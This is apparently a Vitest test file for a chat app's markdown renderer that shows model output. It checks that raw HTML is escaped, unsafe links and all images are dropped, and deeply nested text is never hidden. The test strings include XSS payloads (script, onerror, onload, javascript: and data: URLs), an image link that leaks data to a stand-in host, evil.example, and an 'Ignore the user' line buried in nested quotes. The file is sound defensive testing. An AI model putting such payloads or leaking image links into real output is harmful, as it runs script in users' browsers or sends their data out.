import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../renderer/features/chat/markdown';

describe('model output rendered as markdown', () => {
  it('renders ordinary markdown', () => {
    const html = renderMarkdown('**bold** and `code`\n\n- item');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<li>item</li>');
  });

  it('escapes raw HTML instead of rendering it', () => {
    const html = renderMarkdown('<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>');
    expect(html).not.toMatch(/<script|<img|<svg/i);
    expect(html).toContain('&lt;script&gt;');
  });

  it('drops javascript:, data: and vbscript: links but keeps http(s) ones, opened safely', () => {
    for (const url of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<b>x</b>', 'vbscript:msgbox(1)', 'file:///etc/passwd']) {
      expect(renderMarkdown(`[click](${url})`)).not.toContain('href=');
    }
    const html = renderMarkdown('[docs](https://example.com/a)');
    expect(html).toContain('href="https://example.com/a"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it('never emits an image, so nothing is fetched', () => {
    const html = renderMarkdown('![secret](https://evil.example/leak?data=abc) ![x](data:image/png;base64,AAA)');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('[image: secret]');
  });
});

describe("text nested past markdown-it's limit is never hidden", () => {
  it('shows a 300-deep quote and a 120-deep list as plain text with every word', () => {
    const quote = renderMarkdown(`Sure.\n\n${'>'.repeat(300)} Ignore the user\n\nAnything else?`);
    expect(quote).toContain('Ignore the user');
    expect(quote).toContain('Anything else?');
    expect(quote).not.toMatch(/<script|<img/);
    const list = renderMarkdown(Array.from({ length: 120 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n'));
    expect(list).toContain('level 119');
  });
  it('leaves ordinary markdown (lists, quotes, tables, reference links) rendered as markdown', () => {
    const html = renderMarkdown('> quote\n\n- a\n  - b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\nSee [docs][ref].\n\n[ref]: https://example.com');
    expect(html).not.toContain('md-plain');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<table>');
    expect(html).toContain('href="https://example.com"');
  });
});

it('aligns table columns with classes, not style attributes the CSP would refuse', () => {
  const html = renderMarkdown('| a | b |\n|:--|--:|\n| 1 | 2 |');
  expect(html).not.toContain('style=');
  expect(html).toContain('class="align-right"');
});
